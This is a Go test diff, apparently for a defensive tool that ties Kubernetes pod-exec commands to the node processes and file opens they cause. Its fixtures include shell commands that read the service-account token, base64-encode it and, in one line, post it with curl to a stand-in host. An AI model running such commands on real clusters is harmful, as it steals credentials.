@@ -345,3 +345,79 @@ func TestAKubeletServesWhatTheAPIServerPassesOn(t *testing.T) {
 		}
 	}
 }
+
+// TestAProgramOfAScriptBelongsToWhoRanIt: the shell is one process, and what it starts
+// are others, which the log of the API server does not name.
+func TestAProgramOfAScriptBelongsToWhoRanIt(t *testing.T) {
+	const token = "/var/run/secrets/kubernetes.io/serviceaccount/token"
+	for _, c := range []struct {
+		script, program string
+		want            bool
+	}{
+		{"sh -c cat " + token, "cat " + token, true},
+		{"/bin/bash -ec id; cat '" + token + "' | base64 -w0", "cat " + token, true},
+		{"/bin/bash -ec id; cat " + token + " | base64 -w0", "base64 -w0", true},
+		{"sh -c curl -d \"$(cat " + token + ")\" http://x", "cat " + token, true},
+		{"sh -c cat " + token + ".old", "cat " + token, false},
+		{"sh -c id; env", "env", false}, // anything says that
+		{"echo -c cat " + token, "cat " + token, false},
+		{"sh /srv/c cat " + token, "cat " + token, false},
+	} {
+		var w namedActs
+		h := actAt(0, "kubernetes-user", "k8s:eve", "", c.script)
+		h.Target = finding.Target{Kind: "pods/exec", Namespace: "prod", Name: "pay-1"}
+		w.remember(h)
+		actor, link := w.resolve(actAt(0.2, "linux-user", "linux:node1/uid=0", "node1", c.program))
+		if (actor != nil) != c.want {
+			t.Errorf("%s starts %s: actor %v", c.script, c.program, actor)
+		}
+		if link != nil && !strings.Contains(link.Why, "eve ran a script with this command in pod prod/pay-1 through the API server 0.2 s before") {
+			t.Errorf("%s: %s", c.script, link.Why)
+		}
+	}
+}
+
+// TestAFileThatACommandNamesBelongsToWhoRanIt: the kernel tells of the opening apart.
+func TestAFileThatACommandNamesBelongsToWhoRanIt(t *testing.T) {
+	const token = "/var/run/secrets/kubernetes.io/serviceaccount/token"
+	for _, c := range []struct {
+		command, program, file string
+		want                   bool
+	}{
+		{"cat " + token, "/bin/cat", token, true},
+		{"cat " + token, "/bin/busybox", token, true},
+		{"sh -c curl -d \"$(cat " + token + ")\" http://x", "/usr/bin/cat", token, true},
+		{"sh -c base64 <" + token, "/bin/sh", token, true},
+		{"cat " + token, "/usr/bin/python3", token, false},
+		{"cat " + token + ".old", "/bin/cat", token, false},
+		{"cat token", "/bin/cat", "token", false},
+	} {
+		var w namedActs
+		h := actAt(0, "kubernetes-user", "k8s:eve", "", c.command)
+		h.Target = finding.Target{Kind: "pods/exec", Namespace: "prod", Name: "pay-1"}
+		w.remember(h)
+		open := actAt(0.2, "linux-user", "linux:node1/uid=0", "node1", "")
+		open.Actor.Agent, open.Target = c.program, finding.Target{Kind: "file", Name: c.file}
+		actor, link := w.resolve(open)
+		if (actor != nil) != c.want || link != nil && !strings.Contains(link.Why, "eve ran a command on this file in pod prod/pay-1") {
+			t.Errorf("%s, %s opens %s: actor %v, link %+v", c.command, c.program, c.file, actor, link)
+		}
+	}
+}
+
+// TestAProgramOfAScriptThatARuntimeWasTold: the client of the runtime hands the script on.
+func TestAProgramOfAScriptThatARuntimeWasTold(t *testing.T) {
+	for command, want := range map[string]bool{
+		"crictl exec 9f8e sh -c cat /token | base64":    true,
+		"crictl exec 9f8e /bin/bash -c id; cat /token":  true,
+		"crictl exec 9f8e sh -c cat /tokens | base64":   false,
+		"crictl exec 9f8e sh /srv/run -c cat /token; x": false,
+		"ssh node sh -c cat /token | base64":            false, // no client of a runtime
+	} {
+		var w namedActs
+		w.remember(actAt(0, "linux-user", "linux:node1/auid=1003", "node1", command))
+		if actor, _ := w.resolve(actAt(0.2, "linux-user", "linux:node1/uid=0", "node1", "cat /token")); (actor != nil) != want {
+			t.Errorf("%s: actor %v", command, actor)
+		}
+	}
+}
